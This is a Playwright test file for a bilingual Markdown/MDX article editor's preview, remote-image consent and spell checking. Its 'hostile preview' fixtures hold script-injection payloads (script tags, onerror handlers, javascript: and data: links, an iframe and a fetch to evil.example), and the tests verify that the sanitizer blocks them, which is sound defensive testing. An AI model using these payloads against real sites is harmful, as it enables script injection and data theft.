import { cp, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import type { Page } from '@playwright/test';
import { IMAGE_HOST_CERT, startImageHost } from '../fixtures/image-host';
import type { ImageHost } from '../fixtures/image-host';
import { stubRemoteImages } from '../fixtures/images';
import { watchPageErrors } from '../fixtures/page-errors';
import { SAMPLE_CORPUS, startServer } from '../fixtures/serve';
import type { CopydeskServer } from '../fixtures/serve';
import { LibraryPage } from '../pages/library-page';
import { PairPage } from '../pages/pair-page';
import { PanePreview } from '../pages/preview-page';

const NORWEGIAN_EN = 'src/content/blog/2026/01/norwegian-miner-converts-site-to-ai.en.md';
const NORWEGIAN_UK = 'src/content/blog/2026/01/norwegian-miner-converts-site-to-ai.uk.md';
const HOSTILE = 'src/content/blog/2026/03/hostile-preview.en.md';
const HOSTILE_MDX = 'src/content/blog/2026/03/hostile-components.en.mdx';

const front = (title: string, id: string): string =>
  ['---', `title: '${title}'`, "description: 'Preview test'", "publishedAt: '2026-03-02T09:00:00.000Z'", 'lang: en', `externalId: '${id}'`, 'category: MINING', 'tags:', '  - MINING', 'sentiment: NEUTRAL', 'draft: false', '---', ''].join('\n');

/** Every way we know of to make a Markdown preview run code or call home; hosts that must never be asked for anything. */
const HOSTILE_MD = `${front('Hostile preview', '59100001')}
# Hostile

## API

<script>window.__pwned = 'script'; alert('script')</script>

<img src="https://evil.example/onerror.png" onerror="window.__pwned = 'onerror'; alert('onerror')">

Inline <img src=x onerror="window.__pwned='inline'"> and <svg onload="window.__pwned='svg'"></svg> tags.

<svg><script>window.__pwned = 'svg-script'</script></svg>

<iframe src="https://evil.example/frame"></iframe>

[run me](javascript:window.__pwned='link';alert('link')) and [vb](vbscript:msgbox(1)) and [data](data:text/html,<script>alert(1)</script>)

![inline dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkaPhfDwAEBwG/wZbqLwAAAABJRU5ErkJggg==)

![not an image](data:text/html,<script>alert(1)</script>)

![tracker](https://tracker.example/pixel.png)

<style>body { display: none }</style>

<details>
<summary>Sources</summary>

Raw HTML renders as on the **site**, sanitized.

</details>

<div id="api" name="querySelector" accesskey="l">Not a global.</div>

| a | b |
|---|---|
| ~~old~~ | [x] |

- [x] done
- [ ] open
`;

const HOSTILE_MDX_TEXT = `${front('Hostile components', '59100002')}
import Chart from './chart.astro'
export const leak = fetch('https://evil.example/esm')

# Components

<Callout onClick={() => { window.__pwned = 'jsx' }} href="javascript:alert(1)">

Read **this** first.

</Callout>

Total: {(() => { window.__pwned = 'expression'; return 1 })()}
`;

test.describe('rendered preview over copydesk serve', () => {
  let server: CopydeskServer;
  let lib: LibraryPage;
  let pair: PairPage;
  let pageErrors: string[];
  let corpus: string;

  test.beforeAll(async () => {
    // The sample articles plus the hostile ones, indexed from the start.
    corpus = await mkdtemp(path.join(tmpdir(), 'copydesk-preview-corpus-'));
    await cp(SAMPLE_CORPUS, corpus, { recursive: true });
    await mkdir(path.join(corpus, 'src/content/blog/2026/03'), { recursive: true });
    await writeFile(path.join(corpus, HOSTILE), HOSTILE_MD);
    await writeFile(path.join(corpus, HOSTILE_MDX), HOSTILE_MDX_TEXT);
    server = await startServer(corpus);
  });
  test.afterAll(async () => {
    await server?.stop();
    await rm(corpus, { recursive: true, force: true });
  });

  test.beforeEach(async ({ page }) => {
    pageErrors = watchPageErrors(page);
    await stubRemoteImages(page);
    lib = new LibraryPage(page);
    pair = new PairPage(page);
    await page.goto(server.url);
    await lib.waitForIndex();
  });

  test.afterEach(() => {
    expect(pageErrors).toEqual([]);
  });

  test('a pane switches between source and preview by button and by keyboard', async ({ page }) => {
    await pair.open(NORWEGIAN_UK);
    const source = new PanePreview(page, 'source');
    await source.show();
    await expect(source.previewButton).toHaveAttribute('aria-pressed', 'true');
    await expect(source.editor).toBeHidden();
    await expect(source.heading('Norwegian miner turns its hydro-powered site into an AI data center')).toBeVisible();
    // Headings have the site's anchors; the body's images and lists render.
    await expect(source.heading('Why the site fits')).toHaveAttribute('id', 'why-the-site-fits');
    // A remote image waits for the folder's consent (e2e below); until then, the shared placeholder.
    await expect(source.article.getByRole('group', { name: /^“Server racks in a data hall” \(remote image from images\.unsplash\.com, not loaded\)$/ })).toBeVisible();
    await expect(source.article.getByRole('listitem')).toHaveCount(3);

    await source.scroller.focus();
    await page.keyboard.press('ControlOrMeta+Shift+P');
    await expect(source.root).toHaveCount(0);
    await expect(source.editor).toBeVisible();
    await page.keyboard.press('ControlOrMeta+Shift+P');
    await expect(source.root).toBeVisible();
    await expect(source.editor).toBeHidden();

    // Both panes at once by keyboard (not Ctrl+Alt+Shift+P: that is git push).
    const target = new PanePreview(page, 'target');
    await source.scroller.focus();
    await page.keyboard.press('ControlOrMeta+Alt+Shift+V');
    await expect(source.root).toBeVisible();
    await expect(target.root).toBeVisible();
  });

  test('the preview keys are in the ? list, and each side opens in the mode it was left in', async ({ page }) => {
    await page.keyboard.press('?');
    const dialog = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
    await expect(dialog.getByRole('row').filter({ hasText: 'Rendered preview of the focused pane on / off' }).locator('kbd')).toHaveText(['Ctrl', 'Shift', 'P']);
    await expect(dialog.getByRole('row').filter({ hasText: 'Both previews side by side, scrolling together' }).locator('kbd')).toHaveText(['Ctrl', 'Alt', 'Shift', 'V']);
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();

    await pair.open(NORWEGIAN_UK);
    const source = new PanePreview(page, 'source');
    const target = new PanePreview(page, 'target');
    await source.splitButton.click();
    await target.show();
    await page.reload();
    await lib.waitForIndex();
    await pair.open(NORWEGIAN_UK);
    await expect(source.splitButton).toHaveAttribute('aria-pressed', 'true');
    await expect(source.editor).toBeVisible();
    await expect(source.heading('Overview')).toBeVisible();
    await expect(target.previewButton).toHaveAttribute('aria-pressed', 'true');
    await expect(target.editor).toBeHidden();
    await expect(target.root.locator('.preview-block').first()).toBeVisible();
    // Back to the source on both sides is remembered too.
    await source.splitButton.click();
    await target.previewButton.click();
    await page.reload();
    await lib.waitForIndex();
    await pair.open(NORWEGIAN_UK);
    await expect(source.editor).toBeVisible();
    await expect(source.root).toHaveCount(0);
    await expect(target.root).toHaveCount(0);
  });

  test('both previews side by side scroll together, block by block', async ({ page }) => {
    await pair.open(NORWEGIAN_UK);
    // The alignment comes from the review; wait until it is in.
    await expect(page.getByText(/\d+ blocks paired/)).toBeVisible();
    await page.getByRole('button', { name: 'Preview both' }).click();
    const source = new PanePreview(page, 'source');
    const target = new PanePreview(page, 'target');
    await expect(source.heading('The wider trend')).toBeAttached();
    await expect(target.article.getByRole('heading', { level: 2 }).last()).toBeAttached();
    // The uk translation's headings, in order, face the original's.
    // (The last ones cannot reach the top: the text ends before.)
    const original = source.heading('Why the site fits');
    const translated = target.article.getByRole('heading', { level: 2 }).nth(1);
    await source.scrollTo(original);
    // Level within one line of text.
    await expect.poll(async () => Math.abs((await target.offsetFromTop(translated)) - (await source.offsetFromTop(original)))).toBeLessThanOrEqual(26);
    // And back: scrolling the translation moves the original.
    const first = target.article.getByRole('heading', { level: 2 }).first();
    await target.scrollTo(first);
    await expect.poll(async () => Math.abs((await source.offsetFromTop(source.heading('Overview'))) - (await target.offsetFromTop(first)))).toBeLessThanOrEqual(26);
  });

  test('the preview follows typing in the source beside it', async ({ page }) => {
    await pair.open(NORWEGIAN_EN);
    const source = new PanePreview(page, 'source');
    await source.splitButton.click();
    await expect(source.editor).toBeVisible();
    await expect(source.heading('Overview')).toBeVisible();
    await pair.source.line('---').first().click();
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.press('Enter');
    await page.keyboard.type('## Overview and outlook');
    await expect(source.heading('Overview and outlook')).toHaveAttribute('id', 'overview-and-outlook');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Enter');
    await page.keyboard.type('| Year | MW |\n|---|---|\n| 2027 | ~~40~~ 55 |');
    await expect(source.article.getByRole('table')).toContainText('2027');
    await expect(source.article.locator('del')).toHaveText('40');
    const measured = await page.evaluate(() => performance.getEntriesByName('copydesk:keystroke-preview', 'measure').length);
    expect(measured).toBeGreaterThan(0);
  });

  test('hostile Markdown runs nothing and calls no forbidden host', async ({ page }) => {
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await pair.open(HOSTILE);
    const source = new PanePreview(page, 'source');
    await source.show();
    await expect(source.heading('Hostile')).toBeVisible();
    await expect(source.article.locator('script, iframe, style, svg, object, embed, form')).toHaveCount(0);
    await expect(source.article.locator('[onerror], [onload], [onclick]')).toHaveCount(0);
    // Raw HTML renders sanitized, as on the site: <details> works, an id cannot shadow the page's globals.
    await expect(source.article.locator('details > summary')).toHaveText('Sources');
    await source.article.locator('details > summary').click();
    await expect(source.article.locator('details strong')).toHaveText('site');
    await expect(source.article.getByText('Not a global.')).toHaveAttribute('id', 'user-content-api');
    await expect(source.article.locator('[accesskey]')).toHaveCount(0);
    // Only the heading's own anchor is id="api" (the raw HTML's id is prefixed above).
    await expect(page.locator('#api')).toHaveCount(1);
    await expect(page.locator('h2#api')).toHaveCount(1);
    // The raw remote image waits for the folder's consent; the raw local one is a labelled placeholder.
    await expect(source.article.getByRole('group', { name: /^Image \(remote image from evil\.example, not loaded\)$/ })).toBeVisible();
    await expect(source.article.getByRole('img', { name: 'Image (site image: x)' })).toBeVisible();
    // The links lost their scripted targets; clicking them does nothing.
    await expect(source.article.locator('a[href^="javascript:" i], a[href^="vbscript:" i], a[href^="data:" i]')).toHaveCount(0);
    await source.article.getByText('run me').click();
    // A data: image that is an image shows; one that is HTML has no source.
    await expect(source.article.getByRole('img', { name: 'inline dot' })).toHaveAttribute('src', /^data:image\/png;base64,/);
    await expect(source.article.locator('img[src^="data:text" i]')).toHaveCount(0);
    // GFM still renders around the hostile parts.
    await expect(source.article.getByRole('table')).toBeVisible();
    await expect(source.article.getByRole('checkbox')).toHaveCount(2);
    expect(await page.evaluate(() => (globalThis as { __pwned?: string }).__pwned ?? null)).toBeNull();
    expect(dialogs).toEqual([]);
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
    // No image from anywhere but the page's own origin: remote content is not allowed for this folder.
    expect(asked.filter((url) => !url.startsWith(server.origin))).toEqual([]);
    // Still the app (it drops the token from the address once read).
    expect(page.url()).toBe(`${server.origin}/`);
    // The "## API" heading's anchor is id="api", which HTML names window.api: the page must still reach main.
    await expect(source.heading('API')).toHaveAttribute('id', 'api');
    await lib.query('hydro');
    await expect(lib.rows.first()).toBeVisible();
  });

  test('MDX components, expressions and exports are labelled placeholders, never run', async ({ page }) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await pair.open(HOSTILE_MDX);
    const source = new PanePreview(page, 'source');
    await source.show();
    await expect(source.article.getByText('<Callout> component')).toBeVisible();
    await expect(source.article.locator('[data-mdx="component"] strong')).toHaveText('this');
    await expect(source.article.getByText(/^\{.*window\.__pwned = 'expression'.*\} expression \(not run\)$/)).toBeVisible();
    // The label shows the start of the code (60 characters), never runs it.
    await expect(source.article.getByText("import Chart from './chart.astro' export const leak = fetch… (not run)", { exact: true })).toBeVisible();
    await source.article.getByText('<Callout> component').click();
    expect(await page.evaluate(() => (globalThis as { __pwned?: string }).__pwned ?? null)).toBeNull();
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
  });
});

/*
 * The preview's images follow the folder's remote-content rule, the one the
 * form's cover thumbnails follow (remote-images.spec): nothing is asked of an
 * image's host until the person clicks "Load remote images for this folder",
 * and then only main's proxy asks. The host is a local https server that
 * records every request.
 */
test.describe('preview images wait for the folder’s remote-content consent', () => {
  const REMOTE = 'src/content/blog/2026/03/remote-preview.en.md';
  let host: ImageHost;
  let server: CopydeskServer;
  let corpus: string;

  test.beforeAll(async () => {
    host = await startImageHost();
    corpus = await mkdtemp(path.join(tmpdir(), 'copydesk-preview-remote-'));
    await cp(SAMPLE_CORPUS, corpus, { recursive: true });
    await mkdir(path.join(corpus, 'src/content/blog/2026/03'), { recursive: true });
    const body = ['# Remote', '', `![tracker](${host.origin}/pixel.png?from=preview)`, '', 'After the image.', ''].join('\n');
    await writeFile(path.join(corpus, REMOTE), `${front('Remote preview', '59100003')}${body}`);
    server = await startServer(corpus, { env: { NODE_EXTRA_CA_CERTS: IMAGE_HOST_CERT } });
  });
  test.afterAll(async () => {
    await server?.stop();
    await host?.close();
    await rm(corpus, { recursive: true, force: true });
  });

  test('remote images are fetched, through main, only after allowing them for the folder', async ({ page }) => {
    const pageErrors = watchPageErrors(page);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const lib = new LibraryPage(page);
    const pair = new PairPage(page);
    await page.goto(server.url);
    await lib.waitForIndex();
    await pair.open(REMOTE);
    const source = new PanePreview(page, 'source');
    await source.show();
    const placeholder = source.article.getByRole('group', { name: /^“tracker” \(remote image from 127\.0\.0\.1:\d+, not loaded\)$/ });
    await expect(placeholder).toBeVisible();
    await expect(source.article.locator('img')).toHaveCount(0);
    // Typing re-renders the preview; still nothing is asked of the host.
    await source.splitButton.click();
    await pair.source.line('After the image.').click();
    await page.keyboard.press('End');
    await page.keyboard.type(' More.');
    await expect(source.article.getByText('After the image. More.')).toBeVisible();
    await expect(placeholder).toBeVisible();
    expect(host.requested).toEqual([]);
    expect(asked.filter((url) => url.startsWith(host.origin) || url.includes('/api/remote-image'))).toEqual([]);

    await source.allowRemote.click();
    const image = source.article.getByRole('img', { name: 'tracker' });
    await expect(image).toHaveAttribute('src', /^\/api\/remote-image\?url=/);
    await expect.poll(() => image.evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth)).toBe(1);
    await expect(source.allowRemote).toHaveCount(0);
    expect(host.requested.length).toBeGreaterThan(0);
    expect(host.requested.every((url) => url === '/pixel.png?from=preview')).toBe(true);
    // Only main's proxy talked to the host; the page asked its own origin.
    expect(asked.filter((url) => url.startsWith(host.origin))).toEqual([]);
    expect(asked.some((url) => url.startsWith(`${server.origin}/api/remote-image?`))).toBe(true);
    expect(pageErrors).toEqual([]);
  });
});

test.describe('spell checking where people type', () => {
  let server: CopydeskServer;

  test.beforeAll(async () => {
    server = await startServer();
  });
  test.afterAll(async () => {
    await server?.stop();
  });

  /** The language an element is checked in (its own or inherited `lang`) and whether it is checked (tsconfig.node has no DOM types). */
  const checking = (page: Page, selector: string) =>
    page.locator(selector).first().evaluate((node) => ({ lang: node.closest('[lang]')?.getAttribute('lang') ?? null, spellcheck: (node as unknown as { spellcheck: boolean }).spellcheck }));

  test('each pane checks prose in its article’s language, and skips YAML, code and URLs', async ({ page }) => {
    await stubRemoteImages(page);
    const lib = new LibraryPage(page);
    const pair = new PairPage(page);
    await page.goto(server.url);
    await lib.waitForIndex();
    await pair.open(NORWEGIAN_UK);
    await pair.source.waitForEditor();
    await pair.target.waitForEditor();
    expect(await checking(page, '.editor-pane[data-side="source"] .cm-content')).toEqual({ lang: 'en', spellcheck: true });
    expect(await checking(page, '.editor-pane[data-side="target"] .cm-content')).toEqual({ lang: 'uk', spellcheck: true });
    await expect(pair.target.content).toHaveAttribute('lang', 'uk');
    const title = pair.target.field('Title');
    expect(await title.evaluate((node) => ({ lang: node.closest('[lang]')?.getAttribute('lang'), spellcheck: (node as unknown as { spellcheck: boolean }).spellcheck }))).toEqual({ lang: 'uk', spellcheck: true });
    const description = pair.target.field('Description');
    expect(await description.evaluate((node) => (node as unknown as { spellcheck: boolean }).spellcheck)).toBe(true);
    const externalId = pair.target.field('External ID');
    expect(await externalId.evaluate((node) => (node as unknown as { spellcheck: boolean }).spellcheck)).toBe(false);
    // The YAML lines are marked not to be checked; the body's prose is.
    const yamlLine = pair.target.line('externalId:');
    expect(await yamlLine.locator('[spellcheck="false"]').first().evaluate((node) => (node as unknown as { spellcheck: boolean }).spellcheck)).toBe(false);
    // Prose typed into the body is checked; the code and the URL in it are marked as they appear.
    await pair.target.line('---').first().click();
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Enter');
    await page.keyboard.type('Прочитайте `npm run build` і https://example.com/docs тут.');
    const typed = pair.target.content.locator('.cm-line').filter({ hasText: /^Прочитайте / });
    await expect(typed.locator('[spellcheck="false"]')).toHaveText(['`npm run build`', 'https://example.com/docs']);
    expect(await typed.evaluate((node) => (node as unknown as { spellcheck: boolean }).spellcheck)).toBe(true);
    // The preview reads in the same language.
    const preview = new PanePreview(page, 'target');
    await preview.show();
    await expect(preview.scroller).toHaveAttribute('lang', 'uk');
  });
});
